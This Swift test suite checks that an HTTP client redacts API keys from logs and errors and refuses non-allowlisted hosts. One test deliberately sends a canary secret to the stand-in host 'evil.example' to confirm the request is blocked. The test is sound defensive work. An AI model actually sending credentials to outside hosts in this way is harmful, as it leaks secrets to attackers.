import Foundation
import HTTPClient
import Logging
import PatchbayTestSupport
import Testing

@Suite struct SecrecyTests {
    @Test func secretsNeverReachLogLinesOrErrors() async throws {
        let secret = "sk-canary-\(UUID().uuidString) +/"
        let encoded =
            "sk-canary-"
            + secret.dropFirst(10).replacingOccurrences(of: " ", with: "%20")
            .replacingOccurrences(of: "+", with: "%2B").replacingOccurrences(of: "/", with: "%2F")
        let script = LoopbackServer.script([LoopbackResponse(status: 503), .text("ok")])
        try await withLoopbackServer(script) { server in
            let (logger, logs) = InMemoryLogHandler.logger()
            let client = HTTPClient.forTesting(allowing: [server.hostAndPort], maxRetries: 1, logger: logger)
            let context = HTTPCallContext(secrets: [secret])
            let request = HTTPRequest(
                url: server.baseURL + "/x?key=\(encoded)",
                headers: [HTTPHeader(name: "X-Cisco-Meraki-API-Key", value: secret)]
            )

            _ = try await client.send(request, context: context)
            let refused = try await #require(throws: HTTPClientError.self) {
                try await client.send(HTTPRequest(url: "https://evil.example/\(encoded)"), context: context)
            }
            let exhausted = try await #require(throws: HTTPClientError.self) {
                try await client.send(HTTPRequest(url: "http://127.0.0.1:1/\(encoded)"), context: context)
            }

            #expect(server.requests.first?.header("x-cisco-meraki-api-key") == secret)  // it did go to the server
            let lines = logs.entries.map(\.line)
            #expect(lines.count >= 2)
            #expect(lines.contains { $0.contains(Redaction.placeholder) })
            for text in lines + [refused.description, exhausted.description, refused.url, exhausted.url] {
                #expect(!text.contains(secret) && !text.contains(encoded) && !text.contains(String(secret.prefix(46))))
            }
        }
    }

    @Test func redactionRemovesRawAndPercentEncodedForms() {
        let redaction = Redaction(secrets: ["a b/c", "", "token"])

        #expect(redaction.redact("x=a b/c&y=a%20b%2Fc&z=a%20b%2fc") == "x=<redacted>&y=<redacted>&z=<redacted>")
        #expect(redaction.redact("Bearer token") == "Bearer <redacted>")
        #expect(redaction.redact("nothing here") == "nothing here")
    }

    @Test func oneAttemptOneLogLineWithStatusDurationAndAttempt() async throws {
        try await withLoopbackServer(LoopbackServer.script([LoopbackResponse(status: 429), .text("ok")])) { server in
            let (logger, logs) = InMemoryLogHandler.logger()
            let client = HTTPClient.forTesting(allowing: [server.hostAndPort], logger: logger)

            _ = try await client.send(HTTPRequest(url: server.baseURL + "/x"))

            let entries = logs.entries
            #expect(entries.count == 2)
            #expect(entries.map { $0.metadata["http.status"]?.description } == ["429", "200"])
            #expect(entries.map { $0.metadata["http.attempt"]?.description } == ["1", "2"])
            #expect(
                entries.allSatisfy { $0.metadata["http.duration_ms"] != nil && $0.metadata["http.method"] == "GET" }
            )
            #expect(entries.last?.metadata["http.connection"] == "reused")
        }
    }
}
